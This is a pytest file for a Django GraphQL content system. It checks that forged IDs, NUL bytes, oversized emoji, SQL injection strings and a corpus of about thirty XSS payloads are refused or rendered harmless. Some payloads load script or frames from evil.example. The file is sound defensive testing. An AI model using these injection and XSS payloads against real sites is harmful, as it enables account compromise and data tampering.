"""Hostile input, case by case: forged and malformed global IDs, NUL bytes and lone surrogates,
4-byte emoji at the length limits, SQL metacharacters in search, and an XSS corpus that must come
back without executable markup."""

import base64
import json
from html.parser import HTMLParser

import pytest
from django.test import Client

from cms.models import Comment, Post, Reaction
from cms.rendering import ALLOWED_TAGS
from tests.conftest import GraphQLClient
from tests.support import factories
from tests.support.writes import ADD_COMMENT, CREATE_POST, REACT, gid, guest, row_counts

EMOJI = "\U0001f525"  # four bytes in UTF-8


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def forged_ids(post, comment) -> list[str]:
    return [
        "not base64!", "", "=", b64("Post"), b64("Post:"), b64("Post:abc"),
        b64("Post:-1"), b64("Post:0"), b64(f"Post:{2**63}"), b64(f"Post:{10**40}"),
        b64("Post:1.5"), b64(f"User:{post.author_id}"),
        b64(f"ApiToken:{post.pk}"), b64(f"Tag:{post.pk}"), b64(f"Comment:{post.pk + 10**6}"),
        b64(f":{post.pk}"), b64("\x00:1"), "%00", "\\u0000",
    ]


def test_forged_ids_find_nothing_in_reads(gql, users, settings):
    settings.DEBUG = False
    post = factories.published_post(users["author"])
    comment = factories.comment(post, user=users["subscriber"])
    draft = factories.draft_post(users["author"])
    query = """query($id: ID!) { node(id: $id) { id } post(id: $id) { id }
      comment(id: $id) { id } }"""
    for forged in [*forged_ids(post, comment), gid(draft)]:
        body = gql.execute(query, {"id": forged}, allow_errors=True)
        assert "Unexpected error." not in json.dumps(body), (forged, body)
        data = body.get("data") or {}
        assert data.get("post") is None and data.get("comment") is None, (forged, body)
        assert not (data.get("node") or {}).get("id"), (forged, body)
    # Another type's real ID finds nothing either.
    body = gql.execute(query.replace("node(id: $id) { id } ", ""), {"id": gid(comment)},
                       allow_errors=True)
    assert body["data"]["post"] is None


def test_forged_ids_in_mutations_are_not_found_and_write_nothing(users, settings):
    settings.DEBUG = False
    post = factories.published_post(users["author"])
    comment = factories.comment(post, user=users["subscriber"])
    editor = GraphQLClient().as_user(users["editor"])
    mutations = [
        (ADD_COMMENT, lambda forged: {"input": guest(post) | {"postId": forged}}, "addComment"),
        (ADD_COMMENT, lambda forged: {"input": guest(post) | {"parentId": forged}}, "addComment"),
        (REACT, lambda forged: {"input": {"subjectId": forged}}, "react"),
        ("mutation($id: ID!) { deleteComment(id: $id) { deletedId errors { code } } }",
         lambda forged: {"id": forged}, "deleteComment"),
        ("mutation($id: ID!) { deletePost(id: $id) { deletedId errors { code } } }",
         lambda forged: {"id": forged}, "deletePost"),
        ("mutation($id: ID!) { updatePost(input: {id: $id, title: \"x\"}) { errors { code } } }",
         lambda forged: {"id": forged}, "updatePost"),
    ]
    before = row_counts()
    for forged in forged_ids(post, comment):
        for document, variables, name in mutations:
            body = editor.execute(document, variables(forged), allow_errors=True)
            assert "Unexpected error." not in json.dumps(body), (forged, name, body)
            result = (body.get("data") or {}).get(name)
            assert result is None or [e["code"] for e in result["errors"]] in (
                ["NOT_FOUND"], ["INVALID"]), (forged, name, body)
    assert row_counts() == before


# NUL bytes and lone surrogates ------------------------------------------------------------------


@pytest.mark.parametrize("raw", ['"\\u0000"', '"a\\u0000b"', '"\\ud800"', '"x\\udfff"',
                                 '"\\ud800\\u0041"'])
def test_nul_and_lone_surrogates_in_variables_are_400(users, raw):
    post = factories.published_post(users["author"])
    variables = json.dumps({"input": guest(post, body="BODY")}).replace('"BODY"', raw)
    body = '{"query": ' + json.dumps(ADD_COMMENT) + ', "variables": ' + variables + "}"
    response = Client().post("/graphql/", body, content_type="application/json")
    assert response.status_code == 400
    assert response.json()["errors"][0]["message"]
    assert Comment.objects.count() == 0


def test_nul_in_a_literal_is_a_validation_error(users, gql):
    post = factories.published_post(users["author"])
    mutation = ('mutation { addComment(input: {postId: "ID", body: "a\\u0000b", authorName: "G",'
                ' authorEmail: "g@example.org"}) { errors { code } } }').replace("ID", gid(post))
    body = gql.execute(mutation, allow_errors=True)
    assert body["data"] is None
    assert "NUL" in body["errors"][0]["message"]
    search = gql.execute('{ posts(filter: {search: "\\u0000"}) { totalCount } }',
                         allow_errors=True)
    assert search["data"] is None
    assert Comment.objects.count() == 0


def test_lone_surrogate_escape_in_a_literal_is_a_syntax_error(gql):
    body = gql.execute('{ post(slug: "\\ud800") { id } }', allow_errors=True)
    assert body["data"] is None
    assert "Unicode" in body["errors"][0]["message"]


# 4-byte emoji at the length limits ---------------------------------------------------------------


def test_emoji_comment_fields_at_their_limits(users, gql, settings):
    post = factories.published_post(users["author"])
    cases = [("authorName", settings.HEARTH_MAX_NAME_LENGTH),
             ("body", settings.HEARTH_MAX_COMMENT_LENGTH)]
    for n, (field, limit) in enumerate(cases):
        too_long = guest(post, body=f"Body {n}", authorEmail=f"e{n}@example.org")
        too_long[field] = EMOJI * (limit + 1)
        result = gql.execute(ADD_COMMENT, {"input": too_long})["data"]["addComment"]
        assert [(e["field"], e["code"]) for e in result["errors"]] == [(field, "INVALID")]
        exact = dict(too_long, **{field: EMOJI * limit})
        result = gql.execute(ADD_COMMENT, {"input": exact})["data"]["addComment"]
        assert result["errors"] == [], result
    stored = Comment.objects.get(body=EMOJI * settings.HEARTH_MAX_COMMENT_LENGTH)
    assert len(stored.body) == settings.HEARTH_MAX_COMMENT_LENGTH
    assert Comment.objects.get(author_name=EMOJI * 245)


def test_emoji_post_title_at_its_limit(users):
    author = GraphQLClient().as_user(users["author"])
    too_long = author.execute(CREATE_POST, {"input": {"title": EMOJI * 301, "body": "b"}})
    assert [e["code"] for e in too_long["data"]["createPost"]["errors"]] == ["INVALID"]
    exact = author.execute(CREATE_POST, {"input": {"title": EMOJI * 300, "body": EMOJI * 1000}})
    assert exact["data"]["createPost"]["post"]["title"] == EMOJI * 300
    assert Post.objects.get().title == EMOJI * 300


@pytest.mark.parametrize("ensure_ascii", [True, False])
def test_the_longest_valid_comment_fits_the_default_request_limit(users, ensure_ascii):
    post = factories.published_post(users["author"])
    variables = {"input": guest(post, body=EMOJI * 65_525)}
    body = json.dumps({"query": ADD_COMMENT, "variables": variables},
                      ensure_ascii=ensure_ascii).encode()
    response = Client().post("/graphql/", body, content_type="application/json")
    assert response.status_code == 200
    assert response.json()["data"]["addComment"]["errors"] == []
    assert Comment.objects.get().body == EMOJI * 65_525


# Search -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("search", "titles"), [
    ("%", {"100% pure"}),
    ("_", {"snake_case"}),
    ("0%", {"100% pure"}),
    ("e_c", {"snake_case"}),
    ("' OR '1'='1", set()),
    ("'; DROP TABLE cms_post; --", set()),
    ('" OR 1=1 --', set()),
    ("\\", {"back\\slash"}),
    ("[a-z]*", set()),
    ("%_%", set()),
])
def test_search_treats_sql_and_like_metacharacters_as_text(users, gql, search, titles):
    for title in ("100% pure", "snake_case", "plain words", "back\\slash"):
        factories.published_post(users["author"], title=title)
    query = "query($s: String) { posts(filter: {search: $s}) { edges { node { title } } } }"
    body = gql.execute(query, {"s": search})
    assert {e["node"]["title"] for e in body["data"]["posts"]["edges"]} == titles
    assert Post.objects.count() == 4


# XSS --------------------------------------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](x \"onerror=alert(1)\")",
    "<iframe src=//evil.example></iframe>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<details open ontoggle=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<a href=x onmouseover=alert(1)>hover</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "`<script>` is code and <b onclick=alert(1)>bold</b>",
    "<!--<script>alert(1)</script>-->",
]


class Markup(HTMLParser):
    """Collects every tag and attribute of the returned HTML."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend(attrs)


def assert_safe(html: str, allowed_tags: set[str]) -> None:
    markup = Markup()
    markup.feed(html)
    assert set(markup.tags) <= allowed_tags, html
    for name, value in markup.attributes:
        assert not name.startswith("on"), html
        assert name in {"href", "src", "title", "alt", "rel", "start", "style"}, html
        if name in ("href", "src"):
            scheme = (value or "").split(":", 1)[0].lower() if ":" in (value or "") else ""
            assert scheme in ("", "http", "https", "mailto"), html
        if name == "style":
            assert "url" not in value and "expression" not in value, html


def test_xss_corpus_through_create_post_comes_back_inert(users):
    author = GraphQLClient().as_user(users["author"])
    for n, payload in enumerate(XSS):
        result = author.execute(CREATE_POST, {"input": {"title": f"x{n}", "body": payload}})
        post_id = result["data"]["createPost"]["post"]["id"]
        html = author.execute("query($id: ID!) { post(id: $id) { html body } }",
                              {"id": post_id})["data"]["post"]
        assert html["body"] == payload  # the source is kept as written, for editing
        assert_safe(html["html"], ALLOWED_TAGS)


def test_xss_corpus_through_add_comment_comes_back_inert(users, settings):
    settings.HEARTH_COMMENT_MAX_LINKS = 100
    post = factories.published_post(users["author"])
    commenter = GraphQLClient().as_user(users["subscriber"])
    for payload in XSS:
        result = commenter.execute(ADD_COMMENT, {"input": {"postId": gid(post), "body": payload}})
        comment = result["data"]["addComment"]["comment"]
        assert comment, result
        read = commenter.execute("query($id: ID!) { comment(id: $id) { html } }",
                                 {"id": comment["id"]})
        assert_safe(read["data"]["comment"]["html"], ALLOWED_TAGS)


def test_xss_in_names_and_urls_is_data_not_markup(users, gql):
    post = factories.published_post(users["author"])
    result = gql.execute(ADD_COMMENT, {"input": guest(
        post, authorName="<script>alert(1)</script>", authorUrl="javascript:alert(1)")})
    errors = result["data"]["addComment"]["errors"]
    assert [(e["field"], e["code"]) for e in errors] == [("authorUrl", "INVALID")]
    assert Comment.objects.count() == 0
    assert Reaction.objects.count() == 0
    # JSON responses are not HTML: the name comes back escaped as data, with a JSON content type.
    response = gql.post("{ posts { totalCount } }")
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_react_with_a_forged_visitor_token_is_refused(users, gql):
    post = factories.published_post(users["author"])
    body = gql.execute(REACT, {"input": {"subjectId": gid(post)}},
                       headers={"X-Visitor-Token": "forged.token:value"})
    assert [e["code"] for e in body["data"]["react"]["errors"]] == ["UNAUTHENTICATED"]
    assert Reaction.objects.count() == 0


@pytest.mark.parametrize("variables", [
    {"first": "ten"}, {"first": 1.5}, {"first": 2**40}, {"first": None, "slug": 5},
    {"slug": ["a"]}, {"slug": {"a": 1}}, {"first": True}, {"kind": "LIK"}, {"kind": 3},
])
def test_type_mismatched_variables_are_graphql_errors(gql, settings, variables):
    settings.DEBUG = False
    query = """query($first: Int, $slug: String, $kind: ReactionKind) {
      posts(first: $first) { totalCount } post(slug: $slug) { id } }"""
    response = gql.post(query, variables)
    assert response.status_code == 200
    body = response.json()
    assert body["data"] is None and body["errors"][0]["message"]
    assert "Unexpected error." not in response.content.decode()


@pytest.mark.parametrize("bad", ["a\x00b", "a\ud800b"])
def test_post_services_refuse_nul_and_lone_surrogates(users, bad):
    """Whatever door a post comes through (GraphQL refuses these earlier; code, shell, admin)."""
    from cms.errors import ValidationErrors
    from cms.services.posts import post_create

    for fields in ({"title": bad, "body": "b"}, {"title": "t", "body": bad}):
        with pytest.raises(ValidationErrors) as refused:
            post_create(actor=users["author"], **fields)
        assert refused.value.errors[0].code.value == "INVALID"
    assert Post.objects.count() == 0


# One ID per object (issue 11, item 16) -----------------------------------------------------------


def other_spellings(type_name: str, pk: int) -> list[str]:
    """Every way of writing an ID that an older decoder took for `type_name` `pk`."""
    canonical = b64(f"{type_name}:{pk}")
    spellings = [b64(f"{type_name}:{key}") for key in (
        f"0{pk}", f"00{pk}", f"+{pk}", f" {pk}", f"{pk} ", f"{pk}\n", f"\t{pk}",
        str(pk).translate(str.maketrans("0123456789", "０１２３４５６７８９")),  # full-width
        str(pk).translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")),  # Arabic-Indic
        f"{pk}\x00", f"{str(pk)[:1]}_{str(pk)[1:]}" if pk > 9 else f"0_{pk}",
    )]
    spellings += [b64(f"{type_name.lower()}:{pk}"), b64(f" {type_name}:{pk}"),
                  b64(f"{type_name} :{pk}"), b64(f"{type_name}::{pk}"),
                  f" {canonical}", f"{canonical} ", f"{canonical}\n", canonical[:4] + "\n"
                  + canonical[4:], canonical + "=", canonical.rstrip("=") + "==="]
    if canonical.endswith("="):
        spellings.append(canonical.rstrip("="))  # unpadded: refused, Hearth always pads
        # The same bytes with other unused low bits in the last character.
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        data = canonical.rstrip("=")
        last = alphabet[alphabet.index(data[-1]) + 1]
        spellings.append(data[:-1] + last + canonical[len(data):])
        assert base64.b64decode(spellings[-1]) == base64.b64decode(canonical)
    return [s for s in spellings if s != canonical]


@pytest.mark.parametrize("pk", [1, 7, 10, 123, 4567])
def test_only_the_canonical_spelling_decodes(pk):
    from schema.core.ids import parse_global_id

    assert parse_global_id(b64(f"Post:{pk}")) == ("Post", pk)
    for spelling in other_spellings("Post", pk):
        parsed = parse_global_id(spelling)
        assert parsed is None or parsed[0] != "Post", spelling  # "post:1" is no type of ours
    assert parse_global_id(base64.urlsafe_b64encode(b"Post:1000>").decode()) is None


def test_other_spellings_of_an_id_open_nothing(users, gql, settings):
    settings.DEBUG = False
    post = factories.published_post(users["author"])
    comment = factories.comment(post, user=users["subscriber"])
    query = """query($id: ID!) { node(id: $id) { id } post(id: $id) { id }
      comment(id: $id) { id } }"""
    assert gql.execute(query, {"id": gid(post)})["data"]["post"] == {"id": gid(post)}
    for obj, type_name in ((post, "Post"), (comment, "Comment")):
        for spelling in other_spellings(type_name, obj.pk):
            body = gql.execute(query, {"id": spelling})
            assert body == {"data": {"node": None, "post": None, "comment": None}}, spelling


def test_other_spellings_of_an_id_are_not_found_in_mutations(users, settings):
    settings.DEBUG = False
    post = factories.published_post(users["author"])
    comment = factories.comment(post, user=users["subscriber"])
    editor = GraphQLClient().as_user(users["editor"])
    before = row_counts()
    for spelling in other_spellings("Post", post.pk):
        cases = [(ADD_COMMENT, {"input": guest(post) | {"postId": spelling}}, "addComment"),
                 (REACT, {"input": {"subjectId": spelling}}, "react"),
                 ("mutation($id: ID!) { deletePost(id: $id) { deletedId errors { code } } }",
                  {"id": spelling}, "deletePost")]
        for document, variables, name in cases:
            result = editor.execute(document, variables)["data"][name]
            assert [e["code"] for e in result["errors"]] == ["NOT_FOUND"], (spelling, name)
    for spelling in other_spellings("Comment", comment.pk):
        result = editor.execute(ADD_COMMENT, {"input": guest(post) | {"parentId": spelling}})
        assert [e["code"] for e in result["data"]["addComment"]["errors"]] == ["NOT_FOUND"]
    assert row_counts() == before
    assert Post.objects.filter(pk=post.pk).exists()
